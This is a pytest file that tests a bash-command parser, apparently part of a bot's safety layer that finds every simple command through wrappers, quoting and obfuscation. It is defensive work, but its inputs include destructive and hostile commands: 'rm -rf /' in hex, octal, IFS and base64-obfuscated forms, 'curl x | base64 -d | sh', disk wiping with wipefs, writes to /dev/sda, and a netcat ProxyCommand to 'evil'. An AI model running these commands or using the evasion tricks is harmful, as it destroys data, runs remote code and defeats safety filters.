"""The parser: every simple command, wherever it hides, with wrappers peeled, words expanded
as far as they are known — by construct, by here-document form, by wrapper."""

from __future__ import annotations

import pytest

from bot.safety.budget import MAX_SIMPLE_COMMANDS, Budget, BudgetExceeded
from bot.safety.shell import ParseError, Redirect, parse_command
from bot.safety.shell.walker import MAX_CWD_CANDIDATES


def _argvs(command: str, *, variants: bool = False) -> list[tuple[str, ...]]:
    return [c.argv for c in parse_command(command) if (variants or not c.variant) and c.fields]


@pytest.mark.parametrize(
    ("command", "expected"),
    [
        ("ls -la", [("ls", "-la")]),
        ("a | b | c", [("a",), ("b",), ("c",)]),
        ("a |& b", [("a",), ("b",)]),
        ("a; b && c || d &", [("a",), ("b",), ("c",), ("d",)]),
        ("(a; b)", [("a",), ("b",)]),
        ("{ a; b; }", [("a",), ("b",)]),
        ("echo $(a) `b`", [("a",), ("b",), ("echo", "$(…)", "$(…)")]),
        ("diff <(a) >(b)", [("a",), ("b",), ("diff", "/dev/fd/N", "/dev/fd/N")]),
        ("if a; then b; elif c; then d; else e; fi", [("a",), ("b",), ("c",), ("d",), ("e",)]),
        ("for x in $(a); do b; done", [("a",), ("b",)]),
        ("for ((i = 0; i < $(a); i++)); do b; done", [("a",), ("b",)]),
        ("while a; do b; done; until c; do d; done", [("a",), ("b",), ("c",), ("d",)]),
        ("select x in a b; do c; done", [("c",)]),
        ("case $x in a|b) c;; d) e;& *) f;;& esac", [("c",), ("e",), ("f",)]),
        ("f() { a; }", [("a",)]),
        ("function f { a; }; function g() ( b )", [("a",), ("b",)]),
        ("bash -c 'a; b'", [("bash", "-c", "a; b"), ("a",), ("b",)]),
        ("sh -ec 'a | b'", [("sh", "-ec", "a | b"), ("a",), ("b",)]),
        ("eval 'a && b'", [("eval", "a && b"), ("a",), ("b",)]),
        ("! a", [("a",)]),
        ("a # comment", [("a",)]),
        ("time a -x; time -p b", [("a", "-x"), ("b",)]),
        ("coproc a; coproc NAME { b; }", [("a",), ("b",)]),
        ("[[ -f $(a) && x == $(b) ]]", [("a",), ("b",)]),
        ("(( x = $(a) + 1 )); echo $(( $(b) * 2 ))", [("a",), ("b",), ("echo", "$((…))")]),
        ("echo ${x:-$(a)} ${y:=$(b)}", [("a",), ("b",), ("echo", "${x}", "${y}")]),
        ("a[$(b)]=1; echo ${c[$(d)]}", [("b",), ("d",), ("echo", "${c}")]),
        ("x=$(a) y=`b`", [("a",), ("b",)]),
        ("echo $[1 + 2]", [("echo", "$((…))")]),
        ("let 'x = 1'", []),
    ],
)
def test_flattens_every_construct(command: str, expected: list[tuple[str, ...]]) -> None:
    assert _argvs(command) == expected


# Every way to quote a here-document delimiter; what follows the body is its own command, and
# a quoted body is taken verbatim (its `$(…)` never runs).
HEREDOCS = [
    'cat <<"EOF"\nbody $(hidden)\nEOF\nrm -rf /',
    "cat <<'EOF'\nbody $(hidden)\nEOF\nrm -rf /",
    'cat <<E"O"F\nbody $(hidden)\nEOF\nrm -rf /',
    "cat <<E'OF'\nbody $(hidden)\nEOF\nrm -rf /",
    "cat <<\\EOF\nbody $(hidden)\nEOF\nrm -rf /",
    "cat <<-'EOF'\n\tbody $(hidden)\n\tEOF\nrm -rf /",
    "cat <<-EO\\F\n\tbody $(hidden)\n\tEOF\nrm -rf /",
    "cat << 'EOF'\nbody $(hidden)\nEOF\nrm -rf /",
]


@pytest.mark.parametrize("command", HEREDOCS)
def test_quoted_here_documents_end_where_bash_ends_them(command: str) -> None:
    commands = [c for c in parse_command(command) if not c.variant]
    assert [c.argv for c in commands] == [("cat",), ("rm", "-rf", "/")]
    [doc] = commands[0].redirects
    assert doc.body == "body $(hidden)\n" and doc.body_literal


def test_unquoted_here_document_expands_and_its_substitutions_run() -> None:
    [sub, host, cat] = parse_command("cat <<EOF\nx $(id -u) `hostname` \\$(not)\nEOF")
    assert sub.argv == ("id", "-u") and sub.context == ("substitution",)
    assert host.argv == ("hostname",)
    assert cat.redirects[0].body_literal is False and "$(not)" in cat.redirects[0].body


def test_two_here_documents_on_one_line() -> None:
    commands = parse_command("cat <<A; cat <<'B'\none\nA\ntwo $(x)\nB\nls")
    assert [c.argv for c in commands if c.fields] == [("cat",), ("cat",), ("ls",)]
    assert commands[1].redirects[0].body == "two $(x)\n"


@pytest.mark.parametrize(
    ("command", "argv", "wrappers"),
    [
        ("sudo -u postgres -H psql -l", ("psql", "-l"), ("sudo",)),
        ("sudo FOO=1 ls", ("ls",), ("sudo",)),
        ("doas -u root ls", ("ls",), ("doas",)),
        ("env -i -u HOME A=1 B=2 ls /", ("ls", "/"), ("env",)),
        ("env --chdir=/tmp ls", ("ls",), ("env",)),
        ("nohup ls", ("ls",), ("nohup",)),
        ("timeout 5 ls", ("ls",), ("timeout",)),
        ("timeout --signal=KILL -k 3 5s ls", ("ls",), ("timeout",)),
        ("nice -n 19 ls", ("ls",), ("nice",)),
        ("nice -10 ls", ("ls",), ("nice",)),
        ("ionice -c 3 ls", ("ls",), ("ionice",)),
        ("stdbuf -oL -e0 ls", ("ls",), ("stdbuf",)),
        ("chrt -f 10 ls", ("ls",), ("chrt",)),
        ("taskset -c 0,1 ls", ("ls",), ("taskset",)),
        ("taskset 0x3 ls", ("ls",), ("taskset",)),
        ("flock -w 5 /run/x.lock ls", ("ls",), ("flock",)),
        ("unshare -m -n ls", ("ls",), ("unshare",)),
        ("nsenter -t 1 -m ls", ("ls",), ("nsenter",)),
        ("systemd-run --scope -p MemoryMax=1G ls", ("ls",), ("systemd-run",)),
        ("setsid -f ls", ("ls",), ("setsid",)),
        ("strace -f -e open ls", ("ls",), ("strace",)),
        ("/usr/bin/time -v ls", ("ls",), ("time",)),
        ("command ls", ("ls",), ("command",)),
        ("exec ls", ("ls",), ("exec",)),
        ("busybox ls", ("ls",), ("busybox",)),
        ("xargs -0 -n1 ls", ("ls",), ("xargs",)),
        ("xargs", ("echo",), ("xargs",)),
        ("sudo timeout 5 nice ls", ("ls",), ("sudo", "timeout", "nice")),
    ],
)
def test_peels_wrappers(command: str, argv: tuple[str, ...], wrappers: tuple[str, ...]) -> None:
    [simple] = [c for c in parse_command(command) if not c.variant]
    assert (simple.argv, simple.wrappers) == (argv, wrappers)


# Assignments alone wrap nothing either, however many: 300 is past CPython's cache of small
# integers, where an index compared by identity instead of value would go wrong.
ONLY_ASSIGNMENTS = ["sudo A=1", "sudo -u root A=1 B=2", "env A=1", "sudo " + "A=1 " * 300]


@pytest.mark.parametrize(
    "command",
    ["sudo -l", "sudo -v", "env", "command -v ls", "ionice -p 123", "chrt -p 1", *ONLY_ASSIGNMENTS],
    ids=lambda c: c[:40],
)
def test_a_wrapper_with_nothing_wrapped_is_itself_the_command(command: str) -> None:
    [simple] = parse_command(command)
    assert simple.argv == tuple(command.split()) and simple.wrappers == ()


def test_a_wrapper_with_unknown_options_is_kept_and_every_reading_guessed() -> None:
    commands = parse_command("sudo --frobnicate rm -rf /")
    assert commands[0].argv == ("sudo", "--frobnicate", "rm", "-rf", "/") and commands[0].unpeeled
    assert ("rm", "-rf", "/") in [c.argv for c in commands if c.variant]


def test_wrappers_that_run_a_shell_string() -> None:
    assert ("rm", "x") in _argvs("flock /tmp/l -c 'rm x'")
    assert ("rm", "x") in _argvs("su -c 'rm x' root")
    assert ("rm", "x") in _argvs("sudo -s rm x")
    assert ("rm", "-rf", "/") in _argvs('env -S "rm -rf /"')


def test_xargs_marks_arguments_from_stdin_and_guesses_them_from_echo() -> None:
    first, second = [c for c in parse_command("find . -name x | xargs rm") if not c.variant]
    assert not first.args_from_stdin
    assert second.args_from_stdin and second.stdin_from == ("find",)
    assert ("rm", "/") in _argvs("echo / | xargs rm", variants=True)


def test_pipeline_records_upstream_commands() -> None:
    commands = parse_command("curl x | base64 -d | sh")
    assert [c.stdin_from for c in commands] == [(), ("curl",), ("curl", "base64")]
    assert [c.pipeline_stage for c in commands] == [0, 1, 2]


def test_redirections_are_recorded_with_their_targets() -> None:
    [simple] = parse_command("ls > /tmp/out 2>&1 < /etc/hosts")
    assert [(r.op, r.target, r.fd) for r in simple.redirects] == [
        (">", "/tmp/out", None),
        (">&", "1", 2),
        ("<", "/etc/hosts", None),
    ]
    assert [r.writes for r in simple.redirects] == [True, False, False]


def test_group_redirections_apply_to_every_command_inside() -> None:
    commands = parse_command("{ a; b; } > /dev/sda")
    assert all(any(r.target == "/dev/sda" and r.writes for r in c.redirects) for c in commands)
    assert Redirect(">", "/dev/sda").writes


@pytest.mark.parametrize(
    ("command", "literal"),
    [
        ("ls /tmp", True),
        ("ls '/tmp'", True),
        ("ls ~/x", True),
        ("ls $HOME", False),
        ("ls ${x}", False),
        ("ls $(pwd)", False),
        ("$'ls'", True),  # ANSI-C quoting is decoded exactly
        ('$"ls"', True),
        ("ls > $out", False),
        ("x=$(id) ls", False),
        ("x=/tmp; ls $x", True),  # a variable assigned literally is known
        ("for d in /a /b; do ls $d; done", True),
        ("ls $1", True),  # `bash -c` has no positional parameters: $1 is empty
    ],
)
def test_literal_flag(command: str, literal: bool) -> None:
    main = [c for c in parse_command(command) if not c.variant and c.fields][-1]
    assert main.literal is literal


@pytest.mark.parametrize(
    ("command", "argv"),
    [
        ("x=rm; $x -rf /", ("rm", "-rf", "/")),
        ("IFS=,; c=rm,-rf,/; $c", ("rm", "-rf", "/")),
        ("IFS=,; c=a,,b; printf %s $c", ("printf", "%s", "a", "", "b")),
        ("x=' a  b '; printf %s $x", ("printf", "%s", "a", "b")),
        ('x=" a  b "; printf %s "$x"', ("printf", "%s", " a  b ")),
        ("$'\\x72m' -rf /", ("rm", "-rf", "/")),
        ("$'\\162\\155' -rf /", ("rm", "-rf", "/")),
        ("x=$1; rm -rf ${x:-/}", ("rm", "-rf", "/")),
        ("rm -rf ${1:-/}", ("rm", "-rf", "/")),
        ("$0 -c 'rm -rf /'", ("bash", "-c", "rm -rf /")),
        ("for h in pve01 pve02; do ssh $h uptime; done", ("ssh", "pve02", "uptime")),
        ("x=a; x+=b; echo $x", ("echo", "ab")),
        ("export x=a; export x+=b; echo $x", ("echo", "ab")),
        ("echo {a,b}{1..2} {01..3..2}", ("echo", "a1", "a2", "b1", "b2", "01", "03")),
        ("echo '{a,b}' \\{c,d}", ("echo", "{a,b}", "{c,d}")),
    ],
)
def test_what_is_known_statically_is_literal(command: str, argv: tuple[str, ...]) -> None:
    assert argv in [c.argv for c in parse_command(command) if not c.variant and c.literal]


@pytest.mark.parametrize(
    ("command", "variant"),
    [
        ("if x; then y=rm; fi; $y -rf /", ("rm", "-rf", "/")),
        ("rm$IFS-rf$IFS/", ("rm", "-rf", "/")),
        ("$(echo rm) -rf /", ("rm", "-rf", "/")),
        ("`echo rm` -rf /", ("rm", "-rf", "/")),
        ("$(echo cm0gLXJmIC8= | base64 -d)", ("rm", "-rf", "/")),
        ("rm -rf $HOME", ("rm", "-rf", "~")),
        ("for d in /dev/sd?; do wipefs -a $d; done", ("wipefs", "-a", "/dev/sd?")),
    ],
)
def test_guessed_readings_resolve_what_may_be_static(
    command: str, variant: tuple[str, ...]
) -> None:
    variants = [c for c in parse_command(command) if c.variant]
    assert variant in [c.argv for c in variants]
    assert all(not c.literal or c.variant for c in variants)


def test_find_exec_runs_its_command_with_each_start_path() -> None:
    argvs = _argvs("find /srv /opt -exec rm -rf {} +")
    assert ("rm", "-rf", "/srv") in argvs and ("rm", "-rf", "/opt") in argvs


def test_ssh_remote_command_is_parsed_on_its_host() -> None:
    commands = parse_command("ssh -p 22 -i key pve01 'uptime; df -h'")
    assert [c.argv for c in commands] == [
        ("ssh", "-p", "22", "-i", "key", "pve01", "uptime; df -h"),
        ("uptime",),
        ("df", "-h"),
    ]
    assert commands[1].context == ("ssh pve01",) and commands[1].remote_host == "pve01"
    assert commands[1].cwd == ("~",)


def test_ssh_proxy_command_runs_locally_and_is_parsed() -> None:
    commands = parse_command("ssh -o 'ProxyCommand=nc evil 22' pve01 uptime")
    proxy = next(c for c in commands if c.name == "nc")
    assert proxy.remote_host is None and proxy.context == ("ssh -o proxycommand",)


def test_here_string_and_document_to_a_shell_are_parsed() -> None:
    assert _argvs("bash <<< 'a; b'")[1:] == [("a",), ("b",)]
    assert _argvs("sh <<EOF\na\nb\nEOF")[1:] == [("a",), ("b",)]
    assert _argvs("bash <<'EOF'\na $(b)\nEOF")[1:] == [("b",), ("a", "$(…)")]


def test_function_bodies_know_their_function() -> None:
    body, call = parse_command("f() { g; }; f")
    assert (body.function, body.calls_function, body.conditional) == ("f", False, True)
    assert (call.function, call.calls_function) == (None, True)


def test_background_and_conditional_flags() -> None:
    a, b, c = parse_command("a & b || c")
    assert a.background and not b.background
    assert not b.conditional and c.conditional


@pytest.mark.parametrize("command", ["", "   ", "\n", "# only a comment"])
def test_blank_commands_give_nothing(command: str) -> None:
    assert parse_command(command) == []


@pytest.mark.parametrize(
    "command",
    ["ls 'unterminated", "ls \x00", "x" * 20_001, "echo (", "if true; then", "ls )", "a |"],
)
def test_what_cannot_be_parsed_raises_parse_error(command: str) -> None:
    with pytest.raises(ParseError):
        parse_command(command)


def test_nesting_is_bounded() -> None:
    assert ("ls",) in _argvs("eval 'eval \"eval ls\"'")
    deep = "ls"
    for _ in range(8):
        deep = f"eval {_quote(deep)}"
    with pytest.raises(BudgetExceeded):
        parse_command(deep)


def _quote(text: str) -> str:
    return "'" + text.replace("'", "'\\''") + "'"


def test_number_of_simple_commands_is_bounded() -> None:
    with pytest.raises(BudgetExceeded, match="simple commands"):
        parse_command("; ".join(["ls"] * (MAX_SIMPLE_COMMANDS + 1)))


def test_brace_expansion_is_counted_before_it_is_done() -> None:
    with pytest.raises(BudgetExceeded, match="brace"):
        parse_command("echo " + " ".join(["{-999999..999999}"] * 40))
    with pytest.raises(BudgetExceeded, match="brace"):
        parse_command("echo " + "{a,b}" * 30)


def test_a_spent_budget_stops_the_parse() -> None:
    with pytest.raises(BudgetExceeded):
        parse_command("ls; uptime", Budget(time_s=-1))


def test_non_string_input_is_a_parse_error() -> None:
    with pytest.raises(ParseError):
        parse_command(None)  # type: ignore[arg-type]


def test_cd_gives_later_commands_their_working_directories() -> None:
    commands = parse_command("ls; cd /var; ls; cd log && ls; cd $x; ls")
    assert [c.cwd for c in commands if c.name == "ls"] == [
        (None,),
        ("/var", None),  # `cd /var;` may fail, leaving the old directory
        ("/var/log", None),  # after `&&` it succeeded (from either directory)
        (None, "/var/log", "/var"),  # `cd $x;`: anywhere, or still where it was
    ]


def test_cd_candidates_are_kept_up_to_the_limit_then_unknown() -> None:
    """Each `cd X;` adds X to where the shell may be (every one, up to the limit); past the
    limit the walk stops listing them: it may be anywhere (None)."""
    directories = [f"/d{i}" for i in range(MAX_CWD_CANDIDATES)]
    for count in range(1, MAX_CWD_CANDIDATES + 1):
        script = "".join(f"cd {d}; " for d in directories[:count]) + "ls"
        [ls] = [c for c in parse_command(script) if c.name == "ls"]
        candidates = (*reversed(directories[:count]), None)  # None: where it started
        if len(candidates) <= MAX_CWD_CANDIDATES:
            assert ls.cwd == candidates, script
        else:  # the newest targets stay, the rest is "unknown"
            assert None in ls.cwd and len(ls.cwd) <= MAX_CWD_CANDIDATES, script
            assert ls.cwd[0] == directories[count - 1], script


def test_ansi_c_control_escapes_decode_as_bash_does() -> None:
    """`\\cX` is X's control character (`\\ca` and `\\cA` are both ^A, `\\c?` is DEL); `\\c\\`
    is ^\\, and bash takes a second backslash after it as part of it (`printf %q` of each)."""
    decoded = {
        "$'\\ca\\cA\\cZ\\c?'": "\x01\x01\x1a\x7f",
        "$'\\c\\\\A'": "\x1cA",
        "$'\\c\\x41'": "\x1cx41",
        "$'\\c\\A'": "\x1cA",
    }
    for word, value in decoded.items():
        [echo] = parse_command(f"echo {word}")
        assert [f.text for f in echo.fields] == ["echo", value], word


def test_brace_sequences_pad_and_split_as_bash_does() -> None:
    """Outputs of bash 5 for the same words: zero padding keeps the sign outside the width;
    a quoted `$` before the braces does not make them a parameter's `${`, nor does a lone `$`
    earlier in the word; an unquoted `$a{b,c}` is brace-expanded into two words before the
    parameter is."""
    words = {
        "{-05..-3}": ["-05", "-04", "-03"],
        "{-3..02}": ["-3", "-2", "-1", "00", "01", "02"],
        "\\$a{b,c}": ["$ab", "$ac"],
        "$/{etc,usr}": ["$/etc", "$/usr"],
    }
    for word, fields in words.items():
        [echo] = parse_command(f"echo {word}")
        assert [f.text for f in echo.fields] == ["echo", *fields], word
    [echo] = parse_command("echo $a{b,c}")
    assert len(echo.fields) == 3 and not any(f.literal for f in echo.fields[1:])
